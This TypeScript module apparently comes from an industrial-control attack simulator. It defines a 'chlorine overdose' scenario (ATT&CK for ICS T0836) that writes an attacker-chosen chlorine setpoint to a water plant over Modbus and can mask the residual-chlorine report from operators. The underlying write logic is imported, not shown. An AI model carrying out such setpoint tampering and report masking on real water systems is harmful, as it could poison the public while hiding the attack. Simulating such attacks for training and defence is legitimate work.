// T0836 Modify Parameter: a foreign Modbus client asks for too much chlorine, while the report of the residual is kept.
import { z } from 'zod'
import type { Attack } from './attack.ts'
import { Cover, CoverSeed } from './cover.ts'
import { coveredAim } from './covered-write.ts'
import { InsistSeconds } from './insist.ts'

const Parameters = z.strictObject({
  value: z.number().min(0).max(10).default(2).describe('The chlorine that is asked for, in mg/L.'),
  cover: Cover,
  seed: CoverSeed,
  insistSeconds: InsistSeconds
})

export const chlorineOverdose = {
  name: 'chlorine-overdose',
  title: { zh: '加氯过量', en: 'Chlorine overdose' },
  technique: 'T0836',
  plants: ['water'],
  parameters: Parameters,
  aim: (foothold, { value, cover, seed, insistSeconds }) =>
    coveredAim(foothold, { write: { 'chlorine.setpoint': value }, cover: cover ? ['chlorine.residual'] : [], seed, insistSeconds })
} satisfies Attack<typeof Parameters>
